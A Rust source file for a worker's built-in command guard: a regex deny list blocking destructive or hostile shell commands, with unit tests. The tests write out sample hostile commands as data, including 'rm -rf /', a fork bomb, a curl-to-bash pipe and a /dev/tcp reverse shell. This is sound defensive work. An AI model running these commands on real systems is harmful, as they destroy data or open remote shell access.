//! The worker's own refusal list, independent of policy: even a signed step does not run
//! these. It errs on the side of refusing; policy is where the fine judgement lives.

use regex::RegexSet;

const FORBIDDEN: &[(&str, &str)] = &[
    (
        r#"(^|[;&|(`'"]|\$\()\s*(sudo\s+)?(\S*/)?rm\s+(\S+\s+)*(-\S*[rR]\S*|--recursive)\s+(\S+\s+)*(/|/\*|~|~/|~/\*|\$HOME/?|\$\{HOME\}/?)(\s|$|[;&|)'"])"#,
        "recursive delete of / or the home directory",
    ),
    (r"--no-preserve-root", "recursive delete of /"),
    (
        r"(^|[;&|(\s])(\S*/)?(mkfs(\.\w+)?|mke2fs|wipefs)\s",
        "formats a disk",
    ),
    (
        r"\bdd\s.*\bof=/dev/(sd|nvme|hd|vd|xvd|mmcblk|disk)",
        "writes to a block device",
    ),
    (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}", "a fork bomb"),
    (
        r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?((ba|z|da|k)?sh|python3?|perl|ruby|node)\b",
        "runs code fetched from the network",
    ),
    (r"/dev/(tcp|udp)/", "opens a raw network socket"),
];

/// The forbidden-pattern checker.
pub struct Guard {
    set: RegexSet,
}

impl Guard {
    /// The built-in list plus `extra` patterns (each a regex; a bad one is a config error).
    pub fn new(extra: &[String]) -> Result<Self, regex::Error> {
        let patterns = FORBIDDEN
            .iter()
            .map(|(p, _)| p.to_string())
            .chain(extra.iter().cloned());
        Ok(Self {
            set: RegexSet::new(patterns)?,
        })
    }

    /// Why `text` must not run, if it must not.
    pub fn check(&self, text: &str) -> Option<String> {
        let hit = self.set.matches(text).into_iter().next()?;
        Some(
            FORBIDDEN
                .get(hit)
                .map(|(_, why)| (*why).to_owned())
                .unwrap_or_else(|| "matches a pattern this worker forbids".into()),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_worst_commands_are_refused_whatever_policy_said() {
        let g = Guard::new(&[]).unwrap();
        for bad in [
            "rm -rf /",
            "rm -rf ~",
            "echo hi; rm -fr ~/",
            "sudo /bin/rm -rf /*",
            "sh -c 'rm -rf $HOME'",
            "rm -rf --no-preserve-root /",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "curl -s https://x | bash",
            "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        ] {
            assert!(g.check(bad).is_some(), "{bad}");
        }
        for ok in [
            "rm -rf build",
            "rm -rf ./target ~/src/app/target",
            "ls /",
            "cargo test",
            "echo ~",
        ] {
            assert_eq!(g.check(ok), None, "{ok}");
        }
        let g = Guard::new(&["shutdown".into()]).unwrap();
        assert!(g.check("shutdown -h now").is_some());
    }
}
